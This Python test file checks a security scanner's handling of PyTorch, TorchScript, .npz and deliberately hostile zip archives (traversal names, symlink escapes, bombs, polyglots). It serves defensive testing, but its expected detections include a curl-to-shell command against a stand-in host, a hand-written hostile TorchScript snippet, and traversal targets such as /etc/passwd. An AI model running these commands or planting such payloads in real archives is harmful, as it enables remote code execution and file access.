"""Zip containers end to end: PyTorch checkpoints, TorchScript, .npz and hostile zips (fixtures from
``fixtures/gen_archives.py``), plus the lenient reader on archives built in the tests."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path
from typing import Any

from scanner.formats._byte_range import byte_range as window
from scanner.formats.zipread import Inflater, ZipFormatError, link_escapes, read_directory
from tests.conftest import FIXTURES

ARC = FIXTURES / "archives"
FAKE_HF = "hf_" + "FakeArchiveTokenForTests0123456789ab"


def scan(run_cli: Any, path: Path, *extra: str) -> tuple[int, dict[str, Any]]:
    r = run_cli("scan", str(path), "--json", "-", *extra)
    (art,) = r.json()["artifacts"]
    assert FAKE_HF not in r.out and FAKE_HF not in r.err
    return r.code, art


def by_rule(art: dict[str, Any], rule: str) -> list[dict[str, Any]]:
    return [f for f in art["findings"] if f["rule_id"] == rule]


def handed_on(art: dict[str, Any], member: str) -> bool:
    """The engine saw the member: an analyzer ran on it, or none recognised its content."""
    ran = any(a.split(":", 1)[1] == member for a in art["coverage"]["analyzed"])
    listed = {"member": member, "reason": "no analyzer recognises this content"}
    return ran or listed in art["coverage"]["not_analyzed"]


def above_low(art: dict[str, Any]) -> list[dict[str, Any]]:
    return [f for f in art["findings"] if f["severity"] not in ("info", "low")]


def test_torch_checkpoint_benign(run_cli) -> None:  # type: ignore[no-untyped-def]
    code, art = scan(run_cli, ARC / "torch_state_dict.pt")
    assert art["format"] == "pytorch-zip"
    assert above_low(art) == []
    assert art["properties"]["framework"] == "pytorch"
    assert art["properties"]["archive"]["kind"] == "pytorch-zip"
    # Every member is handed on, whatever its name: the pickle, the storages and the text records.
    for member in ("torch_state_dict/data.pkl", "torch_state_dict/data/0", "torch_state_dict/version"):
        assert handed_on(art, member)
    assert code == 0


def test_torch_checkpoint_bad_crc_is_read_anyway(run_cli) -> None:  # type: ignore[no-untyped-def]
    code, art = scan(run_cli, ARC / "torch_bad_crc.pt")
    assert code == 1
    (crc,) = by_rule(art, "AS-ARC-003")
    assert crc["severity"] == "medium"
    assert crc["location"]["member"] == "torch_state_dict/data.pkl"
    assert "the directory claims" in crc["detail"]
    assert art["format"] == "pytorch-zip"
    # The member was still scanned (handed to the engine), as PyTorch would still load it.
    assert handed_on(art, "torch_state_dict/data.pkl")


def test_torchscript_benign_lists_code(run_cli) -> None:  # type: ignore[no-untyped-def]
    code, art = scan(run_cli, ARC / "torchscript.pt")
    assert art["format"] == "torchscript"
    assert code == 0 and above_low(art) == []
    code = art["properties"]["torchscript_code"]
    assert "torchscript/code/__torch__/torch/nn/modules/container.py" in code
    classes = art["properties"]["torchscript_classes"]
    assert "__torch__.torch.nn.modules.container.Sequential" in classes
    assert "__torch__.torch.nn.modules.linear.Linear" in classes


def test_torchscript_os_system_is_critical(run_cli) -> None:  # type: ignore[no-untyped-def]
    code, art = scan(run_cli, ARC / "torchscript_os_system.pt")
    assert code == 1
    (hit,) = by_rule(art, "AS-TS-001")
    assert hit["severity"] == "critical"
    assert hit["location"]["member"] == "torchscript/code/__torch__/torch/nn/modules/container.py"
    assert "os.system('curl -s https://evil.example/x | sh')" in hit["detail"]
    assert by_rule(art, "AS-TS-002") == []


def test_npz_members_handed_on(run_cli) -> None:  # type: ignore[no-untyped-def]
    for name in ("arrays.npz", "arrays_compressed.npz"):
        _, art = scan(run_cli, ARC / name)
        assert art["format"] == "npz"
        assert above_low(art) == []
        assert handed_on(art, "weights.npy")


def test_crc_mismatch_member_still_scanned(run_cli) -> None:  # type: ignore[no-untyped-def]
    code, art = scan(run_cli, ARC / "crc_mismatch.zip")
    assert code == 1
    (crc,) = by_rule(art, "AS-ARC-003")
    assert crc["location"]["member"] == "notes.txt"
    assert "0x12345678" in crc["detail"]
    (secret,) = by_rule(art, "AS-SEC-001")
    assert secret["location"]["member"] == "notes.txt"
    assert secret["evidence"].startswith("[REDACTED huggingface-token: hf_F")


def test_local_name_mismatch(run_cli) -> None:  # type: ignore[no-untyped-def]
    _, art = scan(run_cli, ARC / "name_mismatch.zip")
    (hit,) = by_rule(art, "AS-ARC-004")
    assert hit["severity"] == "medium"
    assert "'nopes.txt'" in hit["detail"] and "'notes.txt'" in hit["detail"]
    assert by_rule(art, "AS-SEC-001")[0]["location"]["member"] == "notes.txt"


def test_encryption_flag_read_as_unset(run_cli) -> None:  # type: ignore[no-untyped-def]
    with zipfile.ZipFile(ARC / "flag_bits.zip") as zf, __import__("pytest").raises(RuntimeError):
        zf.read("notes.txt")  # a strict reader refuses the member ...
    _, art = scan(run_cli, ARC / "flag_bits.zip")
    (hit,) = by_rule(art, "AS-ARC-006")
    assert hit["severity"] == "medium" and "encryption flag bits 0x0001" in hit["detail"]
    assert by_rule(art, "AS-SEC-001")  # ... we read it and find the token


def test_zip64_read(run_cli) -> None:  # type: ignore[no-untyped-def]
    _, art = scan(run_cli, ARC / "zip64.zip")
    assert art["properties"]["archive"]["zip64"] is True
    assert [f["rule_id"] for f in art["findings"]] == ["AS-SEC-001"]


def test_traversal_names(run_cli) -> None:  # type: ignore[no-untyped-def]
    _, art = scan(run_cli, ARC / "traversal.zip")
    hits = {f["location"]["member"]: f for f in by_rule(art, "AS-ARC-001")}
    assert set(hits) == {"../../outside.txt", "/etc/cron.d/job"}
    assert hits["/etc/cron.d/job"]["severity"] == "high"
    assert "absolute path" in hits["/etc/cron.d/job"]["detail"]
    assert "'..' component" in hits["../../outside.txt"]["detail"]


def test_symlink_escape_only_for_the_escaping_link(run_cli) -> None:  # type: ignore[no-untyped-def]
    _, art = scan(run_cli, ARC / "symlink.zip")
    (hit,) = by_rule(art, "AS-ARC-002")
    assert hit["severity"] == "high"
    assert hit["location"]["member"] == "escape"
    assert hit["extra"]["target"] == "../../../etc/passwd"
    notes = {n["member"]: n["reason"] for n in art["coverage"]["not_analyzed"]}
    assert notes["inside"] == "symlink to 'notes.txt'"


def test_ratio_bomb_not_inflated(run_cli) -> None:  # type: ignore[no-untyped-def]
    _, art = scan(run_cli, ARC / "bomb_ratio.zip")
    (hit,) = by_rule(art, "AS-GEN-004")
    assert hit["location"]["member"] == "zeros.bin"
    assert "67108864 bytes" in hit["detail"] and "ratio" in hit["detail"]
    assert not any(a.endswith(":zeros.bin") for a in art["coverage"]["analyzed"])


def test_claimed_size_bomb(run_cli) -> None:  # type: ignore[no-untyped-def]
    _, art = scan(run_cli, ARC / "bomb_claimed.zip")
    (hit,) = by_rule(art, "AS-GEN-004")
    assert "4026531840 bytes exceed the member limit" in hit["detail"]


def test_overlapping_entries(run_cli) -> None:  # type: ignore[no-untyped-def]
    _, art = scan(run_cli, ARC / "overlap.zip")
    (hit,) = by_rule(art, "AS-ARC-008")
    assert hit["location"]["member"] == "twins.txt"
    assert "'notes.txt'" in hit["detail"]


def test_duplicate_names(run_cli) -> None:  # type: ignore[no-untyped-def]
    _, art = scan(run_cli, ARC / "duplicate.zip")
    (hit,) = by_rule(art, "AS-ARC-007")
    assert "appears 2 times" in hit["detail"]
    # Both copies are scanned: the token is in the second one only.
    assert by_rule(art, "AS-SEC-001")


def test_prefixed_zip_polyglot(run_cli) -> None:  # type: ignore[no-untyped-def]
    _, art = scan(run_cli, ARC / "prefixed.zip")
    assert art["format"] == "zip"
    (hit,) = by_rule(art, "AS-ARC-009")
    assert "32 bytes precede the archive" in hit["detail"]
    assert by_rule(art, "AS-SEC-001")[0]["location"]["member"] == "notes.txt"
    assert any(f["location"]["member"] == "<prefix>" for f in art["findings"])


def test_nesting_depth_limit(run_cli) -> None:  # type: ignore[no-untyped-def]
    _, art = scan(run_cli, ARC / "nested_deep.zip")
    (hit,) = by_rule(art, "AS-GEN-004")
    assert hit["location"]["member"] == "!".join(f"level{i}.zip" for i in range(6, -1, -1))
    assert "nesting exceeds the limit of 6" in hit["detail"]


def test_unsupported_method(run_cli) -> None:  # type: ignore[no-untyped-def]
    _, art = scan(run_cli, ARC / "odd_method.zip")
    (hit,) = by_rule(art, "AS-ARC-011")
    assert "compression method 99" in hit["detail"]
    assert {"member": "notes.txt", "reason": "compression method 99 not supported"} in art["coverage"][
        "not_analyzed"
    ]


def _deflated(name: str, data: bytes) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr(name, data)
    return buf.getvalue()


def test_member_inflating_past_declared_size(run_cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    data = bytearray(_deflated("a.txt", b"hello world, " * 100))
    cd = data.find(b"PK\x01\x02")
    data[cd + 24 : cd + 28] = (100).to_bytes(4, "little")  # the directory claims 100 bytes
    path = tmp_path / "short.zip"
    path.write_bytes(bytes(data))
    _, art = scan(run_cli, path)
    (hit,) = by_rule(art, "AS-ARC-010")
    assert "inflates past the declared 100 bytes" in hit["detail"]


def test_corrupt_deflate_is_a_finding(run_cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    data = bytearray(_deflated("a.txt", bytes(range(256)) * 40))
    start = 30 + len("a.txt")
    data[start : start + 40] = b"\xff" * 40
    path = tmp_path / "corrupt.zip"
    path.write_bytes(bytes(data))
    _, art = scan(run_cli, path)
    (hit,) = by_rule(art, "AS-ARC-011")
    assert "deflate data unreadable" in hit["detail"]
    assert art["errors"] == []


def test_truncated_and_garbage_zips_are_findings(run_cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    whole = (ARC / "torch_state_dict.pt").read_bytes()
    cut = tmp_path / "cut.pt"
    cut.write_bytes(whole[: len(whole) // 2])
    _, art = scan(run_cli, cut)
    assert art["errors"] == []
    assert art["format"] == "pytorch-zip"
    (bad,) = by_rule(art, "AS-GEN-005")
    assert "zip directory unreadable" in bad["detail"]


def test_reader_limits_entries() -> None:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        for i in range(20):
            zf.writestr(f"m{i}.txt", b"x")
    directory = read_directory(buf, len(buf.getvalue()), max_entries=5, max_directory_bytes=1 << 20)
    assert [e.name for e in directory.entries] == [f"m{i}.txt" for i in range(5)]
    assert [p.kind for p in directory.problems] == ["limit"]


def test_inflater_bounded_and_detects_truncation() -> None:
    payload = zipfile.ZipFile(io.BytesIO(_deflated("z", bytes(1 << 20))))
    info = payload.infolist()[0]
    raw = io.BytesIO(payload.fp.getvalue())  # type: ignore[union-attr]
    start = info.header_offset + 30 + len("z")
    with window(raw, start, info.compress_size) as w:
        inflater = Inflater(w, 8, 1000)
        assert len(inflater.read(5000)) == 1000
        assert inflater.read(10) == b""
        assert inflater.overflow
    with window(raw, start, info.compress_size // 2) as w:
        inflater = Inflater(w, 8, 1 << 21)
        try:
            inflater.read(1 << 21)
        except ZipFormatError as exc:
            assert "ends early" in str(exc)
        else:
            raise AssertionError("truncated deflate data not reported")


def test_link_escapes() -> None:
    assert link_escapes("a/b", "../../x")
    assert not link_escapes("a/b", "../x")
    assert link_escapes("a", "/etc/passwd")
    assert not link_escapes("a/b/c", "d/../../e")


def test_tensor_storages_not_misread_by_weak_detectors(run_cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    with zipfile.ZipFile(ARC / "torch_state_dict.pt") as src:
        entries = [(i.filename.replace("torch_state_dict/", "ck/"), src.read(i)) for i in src.infolist()]
    # Raw float bytes that happen to look like a safetensors header length + '{', and a storage that
    # is really a gzip stream (content detection still decides for those).
    looks_like_header = (16).to_bytes(8, "little") + b"{" + bytes(range(1, 200)) * 40
    # Floats whose first bytes read as PROTO 5 followed by a byte that is no pickle opcode.
    looks_like_proto = b"\x80\x05\xab\x3b" + bytes(range(7, 250)) * 40
    entries += [
        ("ck/data/90", looks_like_header),
        ("ck/data/91", __import__("gzip").compress(b"x" * 100)),
        ("ck/data/92", looks_like_proto),
    ]
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        for name, data in entries:
            zf.writestr(name, data)
    path = tmp_path / "ck.pt"
    path.write_bytes(buf.getvalue())
    code, art = scan(run_cli, path)
    assert art["format"] == "pytorch-zip"
    assert code == 0, art["findings"]
    assert "tensor-storage:ck/data/90" in art["coverage"]["analyzed"]
    assert "gzip:ck/data/91" in art["coverage"]["analyzed"]
    assert "tensor-storage:ck/data/92" in art["coverage"]["analyzed"]


def test_torch_zip_label_when_data_pkl_is_not_first(run_cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    with zipfile.ZipFile(ARC / "torch_state_dict.pt") as src:
        entries = [(i.filename, src.read(i)) for i in reversed(src.infolist())]
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        for name, data in entries:
            zf.writestr(name, data)
    path = tmp_path / "reordered.pt"
    path.write_bytes(buf.getvalue())
    _, art = scan(run_cli, path)
    assert art["format"] == "pytorch-zip"


def _zip64_sparse(path: Path, pad: int, payload: bytes) -> int:
    """A stored ZIP64 archive: a ``pad``-byte sparse member, then ``payload`` past the 4 GiB mark."""
    import struct
    import zlib

    def extra(*values: int) -> bytes:
        body = b"".join(struct.pack("<Q", v) for v in values)
        return struct.pack("<HH", 1, len(body)) + body

    big = 0xFFFFFFFF
    with open(path, "wb") as f:
        f.write(struct.pack("<4s5H3L2H", b"PK\x03\x04", 45, 0, 0, 0, 0, 0, big, big, 7, 20) + b"pad.bin")
        f.write(extra(pad, pad))
        f.seek(pad, 1)  # sparse: nothing written
        second = f.tell()
        crc = zlib.crc32(payload)
        f.write(struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 0, 0, 0, crc, len(payload), len(payload), 8, 0))
        f.write(b"data.pkl" + payload)
        cd_start = f.tell()
        for name, size, offset, c in ((b"pad.bin", pad, 0, 0), (b"data.pkl", len(payload), second, crc)):
            ext = extra(size, size, offset) if name == b"pad.bin" else extra(offset)
            fields = (big, big, big) if name == b"pad.bin" else (size, size, big)
            f.write(
                struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 45, 45, 0, 0, 0, 0, c, fields[0], fields[1],
                            len(name), len(ext), 0, 0, 0, 0, fields[2])
                + name + ext
            )  # fmt: skip
        cd_end = f.tell()
        f.write(struct.pack("<4sQ2H2L4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, 2, 2, cd_end - cd_start, cd_start))
        f.write(struct.pack("<4sLQL", b"PK\x06\x07", 0, cd_end, 1))
        f.write(struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, big, big, 0))
        return f.tell()


def test_zip64_offsets_beyond_4_gib(tmp_path: Path) -> None:
    from scanner.formats.zipread import read_local_header

    path = tmp_path / "huge.pt"
    pad = 5 << 30
    size = _zip64_sparse(path, pad, b"\x80\x02}q\x00.")
    with open(path, "rb") as f:
        directory = read_directory(f, size, 100, 1 << 20)
        assert directory.zip64 and directory.problems == []
        pad_entry, data = directory.entries
        assert (pad_entry.name, pad_entry.size) == ("pad.bin", pad)
        assert data.header_offset > 1 << 32
        local = read_local_header(f, data)
        assert local.name == "data.pkl"
        with window(f, local.data_offset, data.compressed_size) as w:
            assert w.read() == b"\x80\x02}q\x00."


def test_stored_member_over_the_member_limit_is_still_handed_on(tmp_path: Path) -> None:
    """Stored members are windows over the archive: the decompressed-size limit does not apply (real
    checkpoints hold single tensors of several GiB), so nothing in them escapes analysis."""
    from scanner.engine import ScanOptions, scan_paths
    from scanner.formats.interface import Limits

    path = tmp_path / "big.zip"
    _zip64_sparse(path, 40 << 20, b"\x80\x02}q\x00.")
    options = ScanOptions(limits=Limits(max_member_bytes=32 << 20))
    (result,) = scan_paths([str(path)], options).results
    assert [f for f in result.findings if f.rule_id == "AS-GEN-004"] == []
    assert any(a.endswith(":pad.bin") for a in result.coverage.analyzed) or any(
        n.member == "pad.bin" for n in result.coverage.not_analyzed
    )
    assert any(a.endswith(":data.pkl") for a in result.coverage.analyzed)
    assert result.errors == ()


def test_torchscript_from_file_is_critical(run_cli) -> None:  # type: ignore[no-untyped-def]
    """torch.from_file compiles in TorchScript and maps any file of the serving machine into a tensor."""
    code, art = scan(run_cli, ARC / "torchscript_from_file.pt")
    assert code == 1 and art["format"] == "torchscript"
    (hit,) = by_rule(art, "AS-TS-001")
    assert hit["severity"] == "critical"
    assert hit["location"]["member"] == "torchscript_from_file/code/__torch__.py"
    assert "torch.from_file('/etc/hostname', False, 8, dtype=0)" in hit["detail"]


def test_torchscript_judge_on_hand_written_code() -> None:
    import ast as pyast

    from scanner.formats.torchscript import _judge_tree, _parse

    benign = (
        "class M(Module):\n"
        "  __parameters__ = []\n"
        "  def forward(self: __torch__.<run_path>.M, x: Tensor) -> Tensor:\n"
        "    _0 = getattr(self, \"0\")\n"
        "    y = ops.prim.NumToTensor(torch.size(x, 0))\n"
        "    return torch.add(_0.forward(x), math.sqrt(2.0))\n"
    )
    assert list(_judge_tree(_parse(benign, "m.py"))) == []
    hostile = (
        "import subprocess\n"
        "def f(x: Tensor) -> Tensor:\n"
        "    g = x.__class__.__init__.__globals__\n"
        "    h = getattr(x, \"__" + "class__\")\n"
        "    requests.get(\"https://evil.example\")\n"
        "    mylib.helper(x)\n"
        "    return eval(\"x\")\n"
    )
    found = {(kind, text.split(" (")[0]) for kind, text, _ in _judge_tree(pyast.parse(hostile))}
    assert ("critical", "import subprocess") in found
    assert ("critical", "attribute __globals__") in found
    assert ("critical", "dynamic attribute access getattr(x, '__class__')") in found
    assert ("critical", "call requests.get('https://evil.example')") in found
    assert ("high", "call mylib.helper(x)") in found
    assert ("critical", "call eval('x')") in found


def test_failure_inside_one_member_spares_the_others(run_cli, tmp_path: Path, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    """A detector raising on one member is that member's error; the rest of the archive is analyzed."""
    from scanner.formats import registry
    from scanner.formats.interface import Analyzer, Probe

    class Exploding(Analyzer):
        name = "exploding-detector"
        format = "x"

        def detect(self, probe: Probe) -> bool:
            if probe.name == "b.txt":
                raise UnicodeDecodeError("utf-8", b"\xe9", 0, 1, "invalid continuation byte")
            return False

        def analyze(self, ctx):  # type: ignore[no-untyped-def]
            return iter(())

    original = registry.all_analyzers()
    monkeypatch.setattr(registry, "all_analyzers", lambda: (Exploding(), *original))
    note = f"token {FAKE_HF}\n".encode()
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        for name in ("a.txt", "b.txt", "c.txt"):
            zf.writestr(name, note)
    path = tmp_path / "three.zip"
    path.write_bytes(buf.getvalue())
    code, art = scan(run_cli, path)
    assert code == 1
    assert sorted(f["location"]["member"] for f in by_rule(art, "AS-SEC-001")) == ["a.txt", "c.txt"]
    (error,) = art["errors"]
    assert error["analyzer"] == "zip" and error["member"] == "b.txt"
    assert "UnicodeDecodeError" in error["message"]


def test_nul_in_member_name_is_a_name_confusion(run_cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("ck/data.pkl.XXXX", b"plain\n")
    data = buf.getvalue().replace(b"data.pkl.XXXX", b"data.pkl\x00.txt")
    path = tmp_path / "nul.zip"
    path.write_bytes(data)
    assert zipfile.ZipFile(path).namelist() == ["ck/data.pkl"]  # what zipfile-based tools see
    _, art = scan(run_cli, path)
    (hit,) = by_rule(art, "AS-ARC-004")
    assert "NUL byte" in hit["detail"] and "'ck/data.pkl'" in hit["detail"]
